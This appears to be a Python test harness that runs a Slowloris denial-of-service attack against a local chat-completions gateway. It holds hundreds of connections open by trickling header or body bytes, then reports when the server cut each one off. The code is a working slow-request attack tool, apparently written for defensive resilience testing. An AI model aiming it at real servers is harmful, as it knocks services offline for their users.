"""Slowloris connections: each opens a connection to the gateway and trickles its request, one byte
every `interval_s`, never finishing it. `headers`: the request line and then header bytes, never
the blank line that ends them; `body`: complete headers announcing a body that then comes a byte at
a time. Each connection notes whether, and when, the server cut it off (closed or reset it)."""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field

__all__ = ["SlowConnection", "Slowloris"]

_HEADERS_START = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nx-slow: "
_BODY_START = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/json\r\n"
    b"content-length: 100000\r\n\r\n"
)


class SlowConnection(asyncio.Protocol):
    def __init__(self, mode: str) -> None:
        self.mode = mode
        self.transport: asyncio.Transport | None = None
        self.opened = 0.0
        self.cut_after: float | None = None  # seconds from open to the server closing it
        self.answered: bytes = b""  # what the server said before closing, if anything

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]  # (uvloop's is not a subclass)
        self.opened = time.monotonic()
        transport.write(_HEADERS_START if self.mode == "headers" else _BODY_START)

    def data_received(self, data: bytes) -> None:
        if not self.answered:
            self.answered = data[:64]

    def connection_lost(self, exc: Exception | None) -> None:
        if self.cut_after is None and self.transport is not None and not getattr(self, "_closing", False):
            self.cut_after = time.monotonic() - self.opened

    def trickle(self) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.transport.write(b"a" if self.mode == "headers" else b" ")

    def close(self) -> None:
        self._closing = True
        if self.transport is not None:
            self.transport.abort()


@dataclass
class Slowloris:
    host: str
    port: int
    count: int
    interval_s: float = 1.0
    connections: list[SlowConnection] = field(default_factory=list)
    failed_to_open: int = 0
    _task: asyncio.Task[None] | None = None

    async def start(self) -> None:
        """Open `count` connections (half trickling headers, half bodies), then trickle them."""
        loop = asyncio.get_running_loop()
        modes = ["headers" if i % 2 == 0 else "body" for i in range(self.count)]

        async def open_one(mode: str) -> None:
            try:
                _, protocol = await loop.create_connection(lambda: SlowConnection(mode), self.host, self.port)
                self.connections.append(protocol)
            except OSError:
                self.failed_to_open += 1

        for start in range(0, len(modes), 100):  # in bursts, not to overflow the listen backlog
            await asyncio.gather(*(open_one(mode) for mode in modes[start : start + 100]))
        self._task = asyncio.create_task(self._trickle())

    async def _trickle(self) -> None:
        while True:
            await asyncio.sleep(self.interval_s)
            for connection in self.connections:
                connection.trickle()

    async def stop(self) -> dict[str, object]:
        """Close what is still open; what happened to each kind of connection."""
        if self._task is not None:
            self._task.cancel()
        summary: dict[str, object] = {"opened": len(self.connections), "failed_to_open": self.failed_to_open}
        for mode in ("headers", "body"):
            mine = [c for c in self.connections if c.mode == mode]
            cut = sorted(c.cut_after for c in mine if c.cut_after is not None)
            summary[mode] = {
                "opened": len(mine),
                "cut_off": len(cut),
                "cut_after_s_min": round(cut[0], 2) if cut else None,
                "cut_after_s_max": round(cut[-1], 2) if cut else None,
                "answers": sorted(
                    {c.answered.split(b"\r\n", 1)[0].decode(errors="replace") for c in mine if c.answered}
                ),
            }
        for connection in self.connections:
            connection.close()
        return summary
